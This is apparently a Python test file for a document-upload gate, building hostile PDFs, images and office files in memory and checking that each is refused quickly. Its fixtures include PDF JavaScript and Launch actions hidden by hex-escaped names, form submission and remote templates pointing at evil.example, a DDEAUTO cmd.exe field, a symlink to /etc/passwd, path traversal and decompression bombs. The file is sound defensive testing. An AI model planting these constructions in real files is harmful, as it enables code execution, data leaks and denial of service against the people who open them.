"""Hostile files, made here and stored nowhere: each is refused with a sentence, quickly and in little memory."""

import gzip
import io
import struct
import subprocess
import sys
import time
import tracemalloc
import zipfile
import zlib

import pytest
from PIL import Image, ImageFile, PngImagePlugin

from participation.gate import Refused
from tests.participation import files
from tests.participation.test_gate import HOSTILE as KNOWN
from tests.participation.test_gate import look_at
from tests.prepared import ROOT

MEGABYTE = 1024 * 1024
RELATION = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="%s" TargetMode="External"/></Relationships>'
)


def pdf(extra: bytes) -> bytes:
    return files.PDF.replace(b"trailer", extra + b"\ntrailer")


def object_stream(content: bytes, kind: bytes = b"/FlateDecode", packed: bytes | None = None) -> bytes:
    data = zlib.compress(content) if packed is None else packed
    return pdf(
        b"7 0 obj<</Type/ObjStm/N 1/First 4/Filter%s/Length %d>>stream\n%s\nendstream endobj" % (kind, len(data), data)
    )


def word(parts: dict[str, bytes]) -> bytes:
    return files.archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"} | parts)


def open_document(parts: dict[str, bytes]) -> bytes:
    return files.archive({"mimetype": files.ODT, "content.xml": b"<office/>"} | parts)


def sharing_parts() -> bytes:
    """An archive whose directory names the same packed bytes many times."""
    whole = files.docx(word__media=b"xxx" + b"\0" * 900_000)
    end = whole.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", whole[end + 16 : end + 20])[0]
    directory = whole[start:end]
    at = directory.rindex(b"PK\x01\x02")
    entry = directory[at:]
    copies = b"".join(
        entry.replace(b"word/media", b"word/m%04d"[:0] + b"word/" + b"%05d" % number) for number in range(400)
    )
    total = 2 + 400
    return (
        whole[:start]
        + directory[:at]
        + copies
        + whole[end : end + 8]
        + struct.pack("<HHII", total, total, len(directory[:at] + copies), start)
        + b"\0\0"
    )


def png_with(chunk: bytes, data: bytes) -> bytes:
    plain = files.picture()
    made = struct.pack(">I", len(data)) + chunk + data + struct.pack(">I", zlib.crc32(chunk + data))
    return plain[:33] + made + plain[33:]


def many_texts(number: int) -> bytes:
    """Each text is within bounds when unpacked; all of them are eight gigabytes."""
    text = b"Comment\0\0" + zlib.compress(b"a" * (4 * MEGABYTE - 1))
    made = struct.pack(">I", len(text)) + b"zTXt" + text + struct.pack(">I", zlib.crc32(b"zTXt" + text))
    return files.picture()[:33] + made * number + files.picture()[33:]


def symlink() -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as made:
        made.writestr("[Content_Types].xml", b"<Types/>")
        made.writestr("word/document.xml", b"<w:document/>")
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return kept.getvalue()


def damaged_part() -> bytes:
    """A document in which the packed bytes of one part are wrong."""
    made = bytearray(word({"word/_rels/a.rels": b"<Relationships>" * 99}))
    at = made.index(b"word/_rels/a.rels") + len(b"word/_rels/a.rels")
    made[at : at + 10] = b"\xff" * 10
    return bytes(made)


def lying_bzip2() -> bytes:
    """Parts of eight bytes, says the directory; each unpacks to fifty megabytes before it can be stopped."""
    made = bytearray(
        files.archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}, zipfile.ZIP_STORED)
    )
    kept = io.BytesIO(made)
    with zipfile.ZipFile(kept, "a", zipfile.ZIP_BZIP2) as archive:
        for number in range(5):
            archive.writestr(f"word/{number}", b"\0" * (50 * MEGABYTE))
        for entry in archive.filelist[2:]:
            entry.file_size = 8
    return kept.getvalue()


HOSTILE = {
    # PDF: programs in the open, under disguised names, in packed lists of objects
    "openaction.pdf": pdf(b"1 0 obj<</OpenAction<</S /JavaScript /JS (app.alert(1))>>>>endobj"),
    "disguised.pdf": pdf(b"1 0 obj<</S/J#61vaScript/JS(x)>>endobj"),
    "disguised-whole.pdf": pdf(b"1 0 obj<</S/#4a#61#76#61#53#63#72#69#70#74>>endobj"),
    "launch-disguised.pdf": pdf(b"1 0 obj<</S/L#61unch/F(calc.exe)>>endobj"),
    "attached.pdf": pdf(b"1 0 obj<</Type/Filespec/EF<</F 2 0 R>>>>endobj 2 0 obj<</Type/EmbeddedFile>>endobj"),
    "go-to-attached.pdf": pdf(b"1 0 obj<</S/GoToE/T<</R/C>>>>endobj"),
    "media.pdf": pdf(b"1 0 obj<</Subtype/RichMedia>>endobj"),
    "film.pdf": pdf(b"1 0 obj<</S/Rendition/R 2 0 R>>endobj"),
    "sends.pdf": pdf(b"1 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj"),
    "imports.pdf": pdf(b"1 0 obj<</S/ImportData/F(a.fdf)>>endobj"),
    "packed-script.pdf": object_stream(b"1 0 <</S/JavaScript/JS(app.alert(1))>>"),
    "packed-disguised.pdf": object_stream(b"1 0 <</S/J#61vaScript/JS(x)>>"),
    "packed-attachment.pdf": object_stream(b"1 0 <</Type/EmbeddedFile>>"),
    "packed-twice.pdf": object_stream(b"", b"[/ASCII85Decode/FlateDecode]", b"abc~>"),
    "packed-otherwise.pdf": object_stream(b"", b"/LZWDecode", b"abc"),
    "packed-damaged.pdf": object_stream(b"", b"/FlateDecode", b"not packed at all"),
    "list-disguised.pdf": object_stream(b"1 0 <</S/JavaScript>>").replace(b"/ObjStm", b"/Obj#53tm"),
    "filter-disguised.pdf": object_stream(b"1 0 <</S/JavaScript>>").replace(b"/Filter", b"/Fi#6cter"),
    "many-lists.pdf": pdf(b"1 0 obj<</Type/ObjStm>>stream\nendstream endobj\n" * 3000 + b" " * (8 * MEGABYTE)),
    "many-packed-lists.pdf": pdf(
        (b"1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n%s\nendstream endobj\n" % zlib.compress(b"a")) * 3000
        + b" " * (8 * MEGABYTE)
    ),
    "one-stream-for-many-lists.pdf": pdf(
        b"1 0 obj<<"
        + b"/Type/ObjStm" * 300
        + b"/Filter/FlateDecode>>stream\n\x78\x9c"
        + b"\0\0\0\xff\xff" * MEGABYTE
        + b"\nendstream endobj"
    ),
    "packed-bomb.pdf": object_stream(b"\0" * (40 * MEGABYTE)),
    "locked-late.pdf": files.PDF.replace(b"%%EOF", b"trailer<</Encrypt 9 0 R>>\n%%EOF"),
    "locked-disguised.pdf": files.PDF.replace(b"/Root", b"/#45ncrypt 5 0 R/Root"),
    "locked-disguised-whole.pdf": files.PDF.replace(b"/Root", b"/#45#6E#63#72#79#70#74 5 0 R/Root"),
    "attached-disguised.pdf": pdf(b"1 0 obj<</Type/Embedded#46ile>>endobj"),
    "header-late.pdf": b"GIF89a" + files.PDF,
    "page.pdf": b"<!doctype html><title>%PDF-1.7</title>%%EOF",
    "sheet.pdf": files.xlsx(),
    "zip-behind.pdf": files.PDF + files.archive({"a.exe": b"MZ"}),
    # pictures
    "drawing.jpg": b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "page.jpg": b"<html><body onload=alert(1)>",
    "gzip.png": gzip.compress(files.picture()),
    "zip-behind.png": files.picture() + files.archive({"a.txt": b"a"}),
    "webp.jpg": b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 30,
    "tiff.png": b"II*\0\x08\0\0\0" + b"\0" * 40,
    "bmp.png": b"BM" + b"\0" * 60,
    "wide.png": files.huge_picture(100_000, 1_000),
    "tall.png": files.huge_picture(1_000, 65_000),
    "text-bomb.png": png_with(b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * (20 * MEGABYTE))),
    "many-texts.png": many_texts(2000),
    "profile-bomb.png": png_with(b"iCCP", b"icc\0\0" + zlib.compress(b"a" * (20 * MEGABYTE))),
    "cut.jpg": files.picture("JPEG")[:60],
    # office documents
    "macro-kind.docx": files.archive(
        {"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml": b"<w/>"}
    ),
    "macro-elsewhere.docx": files.archive(
        {
            "[Content_Types].xml": b"application/vnd.ms-office.vbaProject",
            "word/document.xml": b"<w/>",
            "word/other.bin": b"x",
        }
    ),
    "remote-template.docx": word(
        {"word/_rels/settings.xml.rels": RELATION % (b"attachedTemplate", b"https://evil.example/a.dotm")}
    ),
    "remote-object.docx": word({"word/_rels/document.xml.rels": RELATION % (b"oleObject", b"http://evil.example/a")}),
    "remote-frame.docx": word({"word/_rels/webSettings.xml.rels": RELATION % (b"frame", b"\\\\evil\\share")}),
    "remote-late.docx": word(
        {"word/_rels/a.xml.rels": b"<!--" + b" " * 300_000 + b"-->" + RELATION % (b"frame", b"https://evil.example/a")}
    ),
    "remote-quoted.docx": word(
        {"word/_rels/a.xml.rels": (RELATION % (b"frame", b"https://evil.example/a>")).replace(b'"', b"'")}
    ),
    "remote-behind-a-mark.docx": word(
        {"word/_rels/a.xml.rels": (RELATION % (b"frame", b"ftp://evil.example/a")).replace(b'"r1"', b'">"')}
    ),
    "relations.docx": word({f"word/_rels/{number}.rels": b"<Relationship " * 10_000 for number in range(9)}),
    "damaged.docx": damaged_part(),
    "bzip2.docx": lying_bzip2(),
    "old-field.docx": files.archive(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:instrText xml:space='preserve'> DDE cmd</w:instrText>",
        }
    ),
    "field.docx": files.archive(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>",
        }
    ),
    "entities.docx": files.archive(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b'<!DOCTYPE a [<!ENTITY b "cc">]><a>&b;</a>'}
    ),
    "activex.docx": word({"word/activeX/activeX1.bin": b"x"}),
    "program-inside.docx": word({"word/media/image1.png": b"MZ\x90\0" + b"\0" * 60}),
    "archive-inside.docx": word({"word/media/image1.png": files.archive({"a": b"a"})}),
    "rar-inside.docx": word({"customXml/item1.xml": b"Rar!\x1a\x07\0" + b"\0" * 10}),
    "gzip-inside.odt": open_document({"Pictures/a.png": gzip.compress(b"a" * 100)}),
    "script-inside.docx": word({"word/run.ps1": b"Get-Process"}),
    "link-inside.docx": word({"word/open.lnk": b"L\0\0\0"}),
    "prefixed.docx": b"MZ" + b"\0" * 200 + files.docx(),
    "linked.docx": symlink(),
    "sharing.docx": sharing_parts(),
    "cut.docx": files.docx()[:-30],
    "ratio.docx": word({"word/media/a.bmp": b"\0" * (20 * MEGABYTE)}),
    "connections.xlsx": files.xlsx({"xl/connections.xml": b"<connections/>"}),
    "queries.xlsx": files.xlsx({"xl/queryTables/queryTable1.xml": b"<queryTable/>"}),
    "macro.xlsx": files.xlsx({"xl/vbaProject.bin": b"x"}),
    "locked.odt": open_document({"META-INF/manifest.xml": b'<manifest:encryption-data manifest:checksum="x"/>'}),
    "scripts.odt": open_document({"Scripts/python/a.py": b"print()"}),
    "absolute.docx": word({"/etc/passwd": b"x"}),
    "backslash.docx": word({"word\\..\\a": b"x"}),
    "sheet.ods": files.odt(),
    "word.odt": files.docx(),
    "csv.xlsx": b"a;b;c\n1;2;3\n",
}


def camera_picture() -> bytes:
    """Two pictures in one JPEG, as phones write them."""
    kept = io.BytesIO()
    first, second = Image.new("RGB", (40, 30), "teal"), Image.new("RGB", (20, 15), "gray")
    first.save(kept, "MPO", save_all=True, append_images=[second])
    return kept.getvalue()


def png_with_text() -> bytes:
    facts = PngImagePlugin.PngInfo()
    facts.add_text("Author", "Ana", zip=True)
    kept = io.BytesIO()
    Image.new("RGB", (40, 30), "teal").save(kept, "PNG", pnginfo=facts)
    return kept.getvalue()


HONEST = {
    "telefon.jpg": camera_picture(),
    "captura.png": png_with_text(),
    "legaturi.docx": word(
        {"word/_rels/document.xml.rels": RELATION % (b"hyperlink", b"https://primariaclujnapoca.ro")}
    ),
    "model.docx": word(
        {"word/_rels/settings.xml.rels": RELATION % (b"attachedTemplate", b"file:///C:\\Users\\ana\\Normal.dotm")}
    ),
    # Copied from a web page; what it tells its server is not worth losing the document for.
    "din-pagina.docx": word({"word/_rels/document.xml.rels": RELATION % (b"image", b"https://stiri.example/a.png")}),
    "poze.docx": word({"word/media/image1.png": files.picture(), "word/media/image2.jpeg": files.picture("JPEG")}),
    "modern.pdf": object_stream(b"1 0 <</Type/Catalog/Pages 2 0 R>> 2 0 <</Type/Pages/Count 1>>"),
    "actiune.pdf": pdf(b"1 0 obj<</OpenAction[3 0 R/Fit]>>endobj"),
    "cuvinte.pdf": pdf(b"1 0 obj<</Title(Launching a JavaScript course)>>endobj"),
    "tabel.ods": files.archive(
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<office/>"}
    ),
}


def test_the_corpus_is_large_enough():
    assert len(HOSTILE | KNOWN) >= 90


@pytest.mark.parametrize("name", [name for name in HOSTILE if name.endswith("png")])
def test_it_does_not_rely_on_how_strict_the_picture_library_was_told_to_be(name, monkeypatch):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    test_it_is_refused_with_a_sentence_quickly_and_in_little_memory(name)


def test_making_a_pdf_leaves_the_picture_library_strict():
    """In a process that has not made one yet: WeasyPrint changes the setting once, when it is imported."""
    words = (
        "from participation.views.papers import can_make_pdf; from PIL import ImageFile; "
        "can_make_pdf(); print(ImageFile.LOAD_TRUNCATED_IMAGES)"
    )
    done = subprocess.run([sys.executable, "-c", words], capture_output=True, text=True, check=True, cwd=ROOT)
    assert done.stdout.strip() == "False"


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_refused_with_a_sentence_quickly_and_in_little_memory(name):
    content = HOSTILE[name]
    started = time.process_time()
    with pytest.raises(Refused) as refusal:
        look_at(name, content)
    took = time.process_time() - started  # measured apart: watching every allocation costs more than the gate does
    tracemalloc.start()
    try:
        with pytest.raises(Refused):
            look_at(name, content)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    sentence = str(refusal.value)
    assert f"{name}”" in sentence and sentence.endswith(".") and "%(" not in sentence
    assert took <= 2
    assert peak <= 100 * MEGABYTE


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_that_looks_a_little_alike_is_taken(name):
    assert look_at(name, HONEST[name]).name == name


SLOW = {
    "relations.docx": word({f"word/_rels/{number}.rels": b"<Relationship /" * 30_000 for number in range(2)}),
    "attributes.docx": word({"word/_rels/a.rels": b"<Relationship " + b"TargetMode = Target = /frame " * 30_000}),
    "fields.docx": files.archive(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:instrText " + b"instrText" * 29_000}
    ),
    "tags.docx": files.archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<instrText> " * 29_000}),
    "hashes.pdf": pdf(b"#41" * 3_000_000),
    "names.pdf": pdf(b"/J#61vaScrip" * 700_000),
    "locks.pdf": pdf(b"/#45#6Ecryp#" * 700_000),
    "types.pdf": pdf((b"/Type" + b" " * 100) * 80_000),
    "lists.pdf": pdf(b"1 0 obj<</Type/ObjStm>>stream\nendstream endobj\n" * 1900 + b" " * (8 * MEGABYTE)),
    "packed-lists.pdf": pdf(
        (b"1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n%s\nendstream endobj\n" % zlib.compress(b"a")) * 1900
        + b" " * (8 * MEGABYTE)
    ),
}


@pytest.mark.parametrize("name", SLOW)
def test_a_file_made_to_be_slow_is_judged_in_time_that_grows_with_its_size_only(name):
    """Each takes a fraction of a second; read by a pattern or a copy per match it would take from two seconds to minutes."""
    started = time.process_time()
    assert look_at(name, SLOW[name]).name == name
    assert time.process_time() - started < 1


@pytest.mark.parametrize("name", ["text-bomb.png", "profile-bomb.png"])
def test_a_library_that_reads_damaged_pictures_does_not_open_the_gate(name, monkeypatch):
    monkeypatch.setattr("PIL.ImageFile.LOAD_TRUNCATED_IMAGES", True)  # as the library that writes PDFs sets it
    with pytest.raises(Refused):
        look_at(name, HOSTILE[name])


def test_packed_pictures_are_not_taken_for_programs():
    """A megabyte of chance holds many short names; only long ones are looked for."""
    import random

    chance = random.Random(7).randbytes(4 * MEGABYTE)
    assert look_at("scan.pdf", pdf(b"5 0 obj<</Length 1>>stream\n" + chance + b"\nendstream endobj"))
